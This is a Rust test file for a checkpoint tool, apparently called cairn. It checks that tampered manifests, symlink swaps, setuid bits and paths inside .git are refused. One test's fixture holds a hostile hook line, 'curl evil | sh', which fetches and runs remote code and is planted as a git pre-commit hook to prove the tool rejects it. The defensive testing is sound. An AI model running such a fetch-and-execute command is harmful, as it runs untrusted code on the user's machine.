//! Manifests changed behind cairn's back: a checkpoint is used only when the
//! journal vouches for its manifest's bytes, restores write only into the
//! session's workspace and the named paths recorded at save time, and
//! nothing a manifest says can make cairn write inside `.git`, apply a
//! setuid bit, or change anything before it refuses.

mod common;

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::sync::atomic::{AtomicBool, Ordering};

use cairn_checkpoint::*;
use cairn_objects::ObjectPool;
use cairn_workspace::{CaptureConfig, Workspace};
use common::*;
use serde_json::json;

/// A workspace, a data directory with a nested big file, and an image.
fn scene(f: &Fixture) {
    f.write("src/main.rs", b"fn main() {}\n");
    f.write("README.md", b"# demo\n");
    fs::create_dir_all(f.out("state/deep")).unwrap();
    fs::write(f.out("state/a.json"), b"{\"a\":1}").unwrap();
    fs::write(f.out("state/deep/big.db"), noise(3 << 20, 3)).unwrap();
    fs::write(f.out("disk.img"), noise(2 << 20, 2)).unwrap();
}

fn mode(p: &Path) -> u32 {
    fs::symlink_metadata(p).unwrap().permissions().mode() & 0o7777
}

/// A checkpoint saved but not journaled (the caller journals it, or not).
fn save_unjournaled(f: &Fixture, paths: &[&Path]) -> SaveReport {
    let req = SaveRequest::new(f.run.clone(), f.position())
        .capture(&f.ws)
        .paths(paths.iter().copied());
    save(&f.store, &req, &NoProgress).unwrap()
}

#[test]
fn a_manifest_pointing_a_named_path_elsewhere_fails_verify_and_restore_leaves_that_place_alone() {
    let mut f = Fixture::new();
    scene(&f);
    let state = f.out("state");
    let saved = f.save(&[state.as_path()]);
    assert!(verify(&f.store, &saved.id, &NoProgress).unwrap().ok);

    // A directory the checkpoint never saw. The attacker points the saved
    // path at it; everything else in the manifest (ids, journal position,
    // hashes, sizes) still holds.
    let victim = f.dir.path().join("victim");
    fs::create_dir(&victim).unwrap();
    fs::write(victim.join("precious.txt"), b"keep me").unwrap();
    fs::write(victim.join("a.json"), b"mine").unwrap();
    let victim_abs = victim.canonicalize().unwrap();
    f.tamper(&saved.id, |m| {
        m["paths"][0]["path"] = json!(victim_abs.to_str().unwrap());
    });

    let v = verify(&f.store, &saved.id, &NoProgress).unwrap();
    assert!(!v.ok, "a changed manifest verified");
    assert!(
        v.bad
            .iter()
            .any(|b| b.file == "manifest" && b.reason.contains("changed")),
        "{:?}",
        v.bad
    );

    f.write("src/main.rs", b"edited after\n");
    let ws_before = tree(&f.root);
    let victim_before = tree(&victim);
    let checkpoints = list(&f.store, &f.run).unwrap().len();
    let err = f.restore(&saved.id).unwrap_err();
    assert!(err.is_integrity(), "{err}");
    let msg = err.to_string();
    assert!(
        msg.contains(saved.id.as_str()) && msg.contains("nothing was changed"),
        "{msg}"
    );
    assert_eq!(tree(&victim), victim_before, "the other directory changed");
    assert_eq!(tree(&f.root), ws_before, "the workspace changed");
    assert_eq!(
        list(&f.store, &f.run).unwrap().len(),
        checkpoints,
        "banked anyway"
    );
}

#[test]
fn a_checkpoint_no_journal_record_names_does_not_verify_and_is_not_used() {
    let mut f = Fixture::new();
    scene(&f);
    let disk = f.out("disk.img");
    let saved = save_unjournaled(&f, &[disk.as_path()]);
    let v = verify(&f.store, &saved.id, &NoProgress).unwrap();
    assert!(!v.ok);
    assert!(v.bad.iter().any(|b| b.file == "manifest"), "{:?}", v.bad);

    fs::write(&disk, b"changed").unwrap();
    let err = f.restore(&saved.id).unwrap_err();
    assert!(err.is_integrity(), "{err}");
    assert!(err.to_string().contains("journal"), "{err}");
    assert_eq!(fs::read(&disk).unwrap(), b"changed");

    let fork = f.dir.path().join("fork");
    let err = materialize(&f.store, &saved.id, &fork, &NoProgress).unwrap_err();
    assert!(err.is_integrity(), "{err}");
    assert!(!fork.exists(), "materialised anyway");
}

#[test]
fn a_checkpoint_journaled_without_a_manifest_hash_is_unanchored_and_not_used() {
    let mut f = Fixture::new();
    scene(&f);
    let disk = f.out("disk.img");
    let saved = save_unjournaled(&f, &[disk.as_path()]);
    f.journal_legacy(&saved.id);

    let v = verify(&f.store, &saved.id, &NoProgress).unwrap();
    assert!(!v.ok, "an unanchored manifest reported as verified");
    assert!(
        v.bad
            .iter()
            .any(|b| b.file == "manifest" && b.reason.contains("unanchored")),
        "{:?}",
        v.bad
    );

    fs::write(&disk, b"changed").unwrap();
    f.write("src/main.rs", b"edited after\n");
    let ws_before = tree(&f.root);
    let err = f.restore(&saved.id).unwrap_err();
    assert!(err.is_integrity(), "{err}");
    // The message says how to get the workspace back without trusting it.
    let msg = err.to_string();
    let snap = saved.snapshot.clone().unwrap();
    assert!(
        msg.contains("--restore-snapshot") && msg.contains(snap.as_str()),
        "{msg}"
    );
    assert_eq!(fs::read(&disk).unwrap(), b"changed");
    assert_eq!(tree(&f.root), ws_before);

    let fork = f.dir.path().join("fork");
    let err = materialize(&f.store, &saved.id, &fork, &NoProgress).unwrap_err();
    assert!(err.is_integrity(), "{err}");
    assert!(!fork.exists());
}

#[test]
fn restore_refuses_a_workspace_that_is_not_the_sessions() {
    let mut f = Fixture::new();
    scene(&f);
    let saved = f.save(&[]);
    let other = f.dir.path().join("other");
    fs::create_dir(&other).unwrap();
    fs::write(other.join("mine.txt"), b"not the session's").unwrap();
    let ws = Workspace::open(&f.store, &f.run, &other, CaptureConfig::default()).unwrap();
    let before = tree(&other);
    let err = restore_in(&mut f, Some(&ws), &saved.id, &NoProgress).unwrap_err();
    assert!(err.to_string().contains("nothing was changed"), "{err}");
    assert_eq!(tree(&other), before, "restored into another directory");
}

#[test]
fn restore_refuses_a_manifest_whose_workspace_is_not_the_sessions() {
    let mut f = Fixture::new();
    scene(&f);
    let saved = save_unjournaled(&f, &[]);
    let other = f.dir.path().join("other");
    fs::create_dir(&other).unwrap();
    let other_abs = other.canonicalize().unwrap();
    f.tamper(&saved.id, |m| {
        m["workspace"]["root"] = json!(other_abs.to_str().unwrap());
    });
    // Journaled as it is now: the journal vouches for these bytes, and they
    // still disagree with the session's own workspace.
    f.journal(&saved.id);
    f.write("src/main.rs", b"edited after\n");
    let before = tree(&f.root);
    let err = f.restore(&saved.id).unwrap_err();
    assert!(err.to_string().contains("nothing was changed"), "{err}");
    assert_eq!(tree(&f.root), before);
    assert!(fs::read_dir(&other).unwrap().next().is_none());
}

#[test]
fn setuid_setgid_and_sticky_bits_in_a_manifest_are_never_applied() {
    let mut f = Fixture::new();
    f.write("bin/run.sh", b"#!/bin/sh\n");
    chmod(&f.root.join("bin/run.sh"), 0o755);
    let tool = f.out("tool");
    fs::write(&tool, b"#!/bin/sh\necho tool\n").unwrap();
    chmod(&tool, 0o755);
    let saved = save_unjournaled(&f, &[tool.as_path()]);
    // A manifest written by someone else, and journaled as it is.
    f.tamper(&saved.id, |m| {
        m["paths"][0]["mode"] = json!(0o6777);
        m["paths"][0]["entries"][0]["mode"] = json!(0o6777);
    });
    f.journal(&saved.id);

    // A file restored by content.
    fs::write(&tool, b"changed").unwrap();
    f.restore(&saved.id).unwrap();
    assert_eq!(fs::read(&tool).unwrap(), b"#!/bin/sh\necho tool\n");
    assert_eq!(mode(&tool), 0o777, "content restore");
    // A file whose content is right and whose mode alone differs.
    chmod(&tool, 0o600);
    f.restore(&saved.id).unwrap();
    assert_eq!(mode(&tool), 0o777, "mode-only restore");

    // A materialised fork, from a snapshot manifest with the same bits.
    let snap = saved.snapshot.clone().unwrap();
    f.tamper_snapshot(snap.as_str(), |m| {
        m["entries"]["bin/run.sh"]["mode"] = json!(0o6777);
    });
    let fork = f.dir.path().join("fork");
    materialize(&f.store, &saved.id, &fork, &NoProgress).unwrap();
    assert_eq!(mode(&fork.join("bin/run.sh")), 0o777, "materialised");
}

#[test]
fn materialize_refuses_a_snapshot_that_names_a_path_inside_git() {
    let mut f = Fixture::new();
    f.write("src/main.rs", b"fn main() {}\n");
    f.write("hook.sh", b"#!/bin/sh\ncurl evil | sh\n");
    let saved = f.save(&[]);
    let snap = saved.snapshot.clone().unwrap();
    f.tamper_snapshot(snap.as_str(), |m| {
        let entries = m["entries"].as_object_mut().unwrap();
        let hook = entries.remove("hook.sh").unwrap();
        entries.insert(".git/hooks/pre-commit".into(), hook);
    });
    assert!(!verify(&f.store, &saved.id, &NoProgress).unwrap().ok);
    let fork = f.dir.path().join("fork");
    let err = materialize(&f.store, &saved.id, &fork, &NoProgress).unwrap_err();
    assert!(err.is_integrity(), "{err}");
    assert!(!fork.join(".git").exists(), "wrote inside .git");
    assert!(
        !fork.exists() || fs::read_dir(&fork).unwrap().next().is_none(),
        "wrote something: {:?}",
        tree(&fork)
    );
}

#[test]
fn materialize_refuses_a_target_that_is_not_a_directory() {
    let mut f = Fixture::new();
    f.write("a.txt", b"a");
    let saved = f.save(&[]);
    let file = f.dir.path().join("a-file");
    fs::write(&file, b"x").unwrap();
    let err = materialize(&f.store, &saved.id, &file, &NoProgress).unwrap_err();
    assert!(err.is_usage(), "{err}");
    assert!(err.to_string().contains("is not a directory"), "{err}");
    assert_eq!(fs::read(&file).unwrap(), b"x");
}

#[test]
fn a_symlink_below_a_named_directory_refuses_restore_before_any_change() {
    let mut f = Fixture::new();
    scene(&f);
    let state = f.out("state");
    let saved = f.save(&[state.as_path()]);
    f.write("src/main.rs", b"edited after\n");
    let ws_before = tree(&f.root);
    // A subdirectory is swapped for a symlink to somewhere else, whose file
    // differs from the checkpoint's.
    let elsewhere = f.dir.path().join("elsewhere");
    fs::rename(state.join("deep"), &elsewhere).unwrap();
    std::os::unix::fs::symlink(&elsewhere, state.join("deep")).unwrap();
    poke(&elsewhere.join("big.db"), 2, 5);
    let elsewhere_before = tree(&elsewhere);
    let err = f.restore(&saved.id).unwrap_err();
    assert!(matches!(err, CheckpointError::UnsafePath { .. }), "{err}");
    assert!(err.to_string().contains("nothing was changed"), "{err}");
    assert_eq!(tree(&f.root), ws_before, "the workspace changed first");
    assert_eq!(tree(&elsewhere), elsewhere_before);
}

/// Deletes one object the moment the named paths start being staged: the
/// workspace is restored by then, so the restore fails part-way.
struct LoseObjectWhileStaging {
    object: std::path::PathBuf,
    applied: AtomicBool,
    done: AtomicBool,
}

impl Progress for LoseObjectWhileStaging {
    fn begin(&self, phase: Phase, _total: Option<u64>) {
        if phase == Phase::Apply {
            self.applied.store(true, Ordering::SeqCst);
        }
        if phase == Phase::Stage
            && self.applied.load(Ordering::SeqCst)
            && !self.done.swap(true, Ordering::SeqCst)
        {
            fs::remove_file(&self.object).unwrap();
        }
    }
}

#[test]
fn a_restore_that_fails_part_way_says_what_it_changed_and_never_that_nothing_changed() {
    let mut f = Fixture::new();
    scene(&f);
    let disk = f.out("disk.img");
    let saved = f.save(&[disk.as_path()]);
    let hash = show(&f.store, &saved.id).unwrap().paths[0].entries[0].hash;
    let pool = ObjectPool::at(&f.store);
    let chunk = pool.chunk_list(&hash).unwrap().unwrap()[0].hash;
    let ws_then = tree(&f.root);
    f.write("src/main.rs", b"edited after\n");
    poke(&disk, 2, 7);
    let disk_before = fs::read(&disk).unwrap();

    let sabotage = LoseObjectWhileStaging {
        object: pool.path_of(&chunk),
        applied: AtomicBool::new(false),
        done: AtomicBool::new(false),
    };
    let err = f.restore_with(&saved.id, &sabotage).unwrap_err();
    assert!(sabotage.done.load(Ordering::SeqCst));
    assert!(
        matches!(err, CheckpointError::RestoreIncomplete { .. }),
        "{err}"
    );
    let msg = err.to_string();
    assert!(!msg.contains("nothing was changed"), "{msg}");
    assert!(msg.contains("stopped part-way"), "{msg}");
    assert!(msg.contains("the workspace was restored"), "{msg}");
    assert!(msg.contains("no named path was changed"), "{msg}");
    let bank = list(&f.store, &f.run).unwrap()[0].clone();
    assert_eq!(bank.kind, CheckpointKind::Bank);
    assert!(msg.contains(bank.id.as_str()), "{msg}");
    // Exactly that state: the workspace restored, the image untouched, no
    // staged temporaries left next to it.
    assert_eq!(tree(&f.root), ws_then);
    assert_eq!(fs::read(&disk).unwrap(), disk_before);
    let temps: Vec<_> = fs::read_dir(&f.outside)
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .filter(|n| n.starts_with(".cairn-tmp-"))
        .collect();
    assert!(temps.is_empty(), "{temps:?}");
}
